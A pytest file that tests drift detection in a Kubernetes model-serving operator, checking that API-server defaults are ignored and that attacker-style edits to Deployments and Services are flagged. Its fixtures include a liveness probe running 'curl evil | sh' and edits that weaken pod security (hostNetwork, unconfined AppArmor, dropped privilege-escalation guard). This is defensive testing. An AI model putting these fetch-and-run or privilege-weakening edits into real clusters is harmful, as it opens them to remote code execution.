"""Drift anywhere in an owned Deployment: the whole object is compared with the verified
one, API-server defaults set aside, replicas included (any field of a pod template can
change what runs, not only the few that look security-relevant)."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from modeltrust.operator.builders import (
    BuildSettings,
    VerifiedModel,
    build_deployment,
    build_service,
)
from modeltrust.operator.drift import (
    default_pull_policy,
    detect_deployment_drift,
    detect_service_drift,
    drift_fingerprint,
)
from modeltrust.operator.types import parse_model_deployment

pytestmark = pytest.mark.unit


def verified_deployment(replicas: int | None = None, **runtime: Any) -> dict[str, Any]:
    md = parse_model_deployment(
        {
            "metadata": {"name": "resnet", "namespace": "ml", "uid": "u1", "generation": 2},
            "spec": {
                "model": {"name": "resnet", "version": "1", "uri": "https://m.example/r.onnx",
                          "digest": "sha256:" + "ab" * 32},
                "replicas": 2,
                "runtime": runtime,
            },
        }
    )  # fmt: skip
    v = VerifiedModel(digest=md.model.digest, size=100, generation=2, provenance_config_map="cm")
    return build_deployment(md, v, BuildSettings("registry.example/x:1"), replicas=replicas)


def as_the_api_server_returns_it(d: dict[str, Any]) -> dict[str, Any]:
    """What a real API server (v1.35) gave back for this Deployment: canonical quantities,
    empty strings dropped, defaults filled in, status and bookkeeping added."""
    live = copy.deepcopy(d)
    live["metadata"].update(
        resourceVersion="42", uid="x", generation=1, creationTimestamp="2026-01-01T00:00:00Z",
        annotations={**live["metadata"]["annotations"], "deployment.kubernetes.io/revision": "1"},
    )  # fmt: skip
    live["status"] = {"replicas": 2, "readyReplicas": 2}
    pod = live["spec"]["template"]["spec"]
    pod.update(restartPolicy="Always", terminationGracePeriodSeconds=30, dnsPolicy="ClusterFirst",
               schedulerName="default-scheduler")  # fmt: skip
    for c in [*pod["containers"], *pod["initContainers"]]:
        # Defaults fill only what is absent (the fetch container sets FallbackToLogsOnError).
        c.setdefault("terminationMessagePolicy", "File")
        c.update(terminationMessagePath="/dev/termination-log", imagePullPolicy="IfNotPresent")
        for env in c.get("env", []):
            if env.get("value") == "":
                del env["value"]
        res = c.get("resources", {})
        if res.get("requests", {}).get("cpu") == "1000m":
            res["requests"]["cpu"] = "1"
        if res.get("requests", {}).get("memory") == "1024Mi":
            res["requests"]["memory"] = "1Gi"
    server = pod["containers"][0]
    for probe in (server["livenessProbe"], server["readinessProbe"]):
        probe.update(timeoutSeconds=1, successThreshold=1)
        probe["httpGet"]["scheme"] = "HTTP"
    for t in pod.get("tolerations", []):
        if t.get("value") == "":
            del t["value"]
    return live


RUNTIME: dict[str, Any] = {
    "resources": {"requests": {"cpu": "1000m", "memory": "1024Mi"}},
    "env": [{"name": "EMPTY", "value": ""}],
    "tolerations": [{"key": "gpu", "operator": "Exists", "effect": "NoSchedule", "value": ""}],
}


def test_what_the_api_server_adds_is_not_drift() -> None:
    ours = verified_deployment(**RUNTIME)
    live = as_the_api_server_returns_it(ours)
    assert detect_deployment_drift(live, ours) == ()
    live["spec"]["template"]["metadata"]["annotations"]["kubectl.kubernetes.io/restartedAt"] = "x"
    assert detect_deployment_drift(live, ours) == ()  # `kubectl rollout restart`


def test_the_service_account_the_api_server_mirrors_is_not_drift() -> None:
    # Found on kwok: with serviceAccountName set, the API server also fills the deprecated
    # serviceAccount with it, and each drift check replaced the Deployment again.
    ours = verified_deployment(serviceAccountName="ml-runner")
    live = as_the_api_server_returns_it(ours)
    live["spec"]["template"]["spec"]["serviceAccount"] = "ml-runner"
    assert detect_deployment_drift(live, ours) == ()
    live["spec"]["template"]["spec"]["serviceAccountName"] = "admin"
    live["spec"]["template"]["spec"]["serviceAccount"] = "admin"
    assert detect_deployment_drift(live, ours) != ()


def server(d: dict[str, Any]) -> dict[str, Any]:
    c: dict[str, Any] = d["spec"]["template"]["spec"]["containers"][0]
    return c


def pod(d: dict[str, Any]) -> dict[str, Any]:
    p: dict[str, Any] = d["spec"]["template"]["spec"]
    return p


# Edits an attacker with Deployment rights could make, one at a time, and what drift names.
EDITS: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
    ("replicas", lambda d: d["spec"].update(replicas=3), "spec.replicas differs"),
    ("postStart", lambda d: server(d).update(
        lifecycle={"postStart": {"exec": {"command": ["python", "-c", "..."]}}}),
     "containers[model-server].lifecycle was added"),
    ("livenessProbe.exec", lambda d: server(d).update(
        livenessProbe={"exec": {"command": ["sh", "-c", "curl evil | sh"]}}),
     "containers[model-server].livenessProbe.exec was added"),
    ("containerPort", lambda d: server(d)["ports"][0].update(containerPort=9999),
     "ports[http].containerPort differs"),
    ("envFrom", lambda d: server(d).update(envFrom=[{"configMapRef": {"name": "attacker"}}]),
     "containers[model-server].envFrom was added"),
    ("workingDir", lambda d: server(d).update(workingDir="/tmp"),
     "containers[model-server].workingDir was added"),
    ("hostNetwork", lambda d: pod(d).update(hostNetwork=True), "spec.hostNetwork was added"),
    ("shareProcessNamespace", lambda d: pod(d).update(shareProcessNamespace=True),
     "spec.shareProcessNamespace was added"),
    ("pod securityContext emptied", lambda d: pod(d).update(securityContext={}),
     "spec.securityContext was removed"),
    ("allowPrivilegeEscalation dropped",
     lambda d: server(d)["securityContext"].pop("allowPrivilegeEscalation"),
     "securityContext.allowPrivilegeEscalation was removed"),
    ("paused", lambda d: d["spec"].update(paused=True), "spec.paused was added"),
    ("template label", lambda d: d["spec"]["template"]["metadata"]["labels"].update(x="y"),
     "template.metadata.labels.x was added"),
    ("apparmor annotation",
     lambda d: d["spec"]["template"]["metadata"]["annotations"].update(
         {"container.apparmor.security.beta.kubernetes.io/model-server": "unconfined"}),
     "apparmor.security.beta.kubernetes.io/model-server was added"),
    ("controller reference removed",
     lambda d: d["metadata"].pop("ownerReferences"),
     "metadata.ownerReferences: the controller reference to ModelDeployment resnet was removed"),
    ("managed-by label removed",
     lambda d: d["metadata"]["labels"].pop("app.kubernetes.io/managed-by"),
     "metadata.labels.app.kubernetes.io/managed-by is None"),
    ("init container order",
     lambda d: pod(d).update(initContainers=[{"name": "pre", "image": "x"},
                                            *pod(d)["initContainers"]]),
     "initContainers[pre] was added"),
    ("cpu limit raised", lambda d: server(d)["resources"].update(limits={"cpu": "64"}),
     "resources.limits was added"),
    ("pull policy", lambda d: server(d).update(imagePullPolicy="Never"),
     "imagePullPolicy was added"),
]  # fmt: skip


@pytest.mark.parametrize(("what", "edit", "words"), EDITS, ids=[e[0] for e in EDITS])
def test_every_change_we_did_not_make_is_drift(
    what: str, edit: Callable[[dict[str, Any]], None], words: str
) -> None:
    ours = verified_deployment(**RUNTIME)
    live = as_the_api_server_returns_it(ours)
    edit(live)
    diffs = detect_deployment_drift(live, ours)
    assert any(words in d for d in diffs), diffs


def test_the_review_proof_of_concept_is_caught_whole() -> None:
    ours = verified_deployment(replicas=0)  # revoked under ScaleToZero
    live = as_the_api_server_returns_it(ours)
    for _, edit, _ in EDITS[:9]:
        edit(live)
    diffs = detect_deployment_drift(live, ours)
    assert len(diffs) >= 9
    assert "spec.replicas differs from the verified template" in diffs


def test_default_pull_policy_follows_the_api_server() -> None:
    assert default_pull_policy("nginx") == "Always"
    assert default_pull_policy("nginx:latest") == "Always"
    assert default_pull_policy("registry:5000/nginx") == "Always"
    assert default_pull_policy("registry:5000/nginx:1.2") == "IfNotPresent"
    assert default_pull_policy("nginx@sha256:" + "0" * 64) == "IfNotPresent"


def test_the_fingerprint_follows_what_is_verified() -> None:
    a = verified_deployment()
    assert drift_fingerprint(a) == drift_fingerprint(as_the_api_server_returns_it(a))
    assert drift_fingerprint(a) != drift_fingerprint(verified_deployment(replicas=0))


def verified_service() -> dict[str, Any]:
    md = parse_model_deployment(
        {
            "metadata": {"name": "resnet", "namespace": "ml", "uid": "u1", "generation": 2},
            "spec": {"model": {"name": "resnet", "version": "1", "uri": "https://m.example/r.onnx",
                               "digest": "sha256:" + "ab" * 32}},
        }
    )  # fmt: skip
    return build_service(md)


def service_as_the_api_server_returns_it() -> dict[str, Any]:
    live = copy.deepcopy(verified_service())
    live["metadata"].update(uid="s1", resourceVersion="7")
    live["spec"].update(
        clusterIP="10.96.0.12", clusterIPs=["10.96.0.12"], ipFamilies=["IPv4"],
        ipFamilyPolicy="SingleStack", sessionAffinity="None", internalTrafficPolicy="Cluster",
    )  # fmt: skip
    return live


SERVICE_EDITS: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
    ("selector", lambda s: s["spec"]["selector"].update(pick="mine"),
     "spec.selector.pick was added"),
    ("NodePort", lambda s: s["spec"].update(type="NodePort"), "spec.type differs"),
    ("externalIPs", lambda s: s["spec"].update(externalIPs=["203.0.113.9"]),
     "spec.externalIPs was added"),
    ("targetPort", lambda s: s["spec"]["ports"][0].update(targetPort=9999),
     "spec.ports[http].targetPort differs"),
    ("controller reference", lambda s: s["metadata"].pop("ownerReferences"),
     "controller reference to ModelDeployment resnet was removed"),
]  # fmt: skip


def test_what_the_api_server_adds_to_a_service_is_not_drift() -> None:
    assert detect_service_drift(service_as_the_api_server_returns_it(), verified_service()) == ()


@pytest.mark.parametrize(
    ("what", "edit", "words"), SERVICE_EDITS, ids=[e[0] for e in SERVICE_EDITS]
)
def test_every_change_to_who_gets_the_traffic_is_service_drift(
    what: str, edit: Callable[[dict[str, Any]], None], words: str
) -> None:
    live = service_as_the_api_server_returns_it()
    edit(live)
    diffs = detect_service_drift(live, verified_service())
    assert any(words in d for d in diffs), diffs
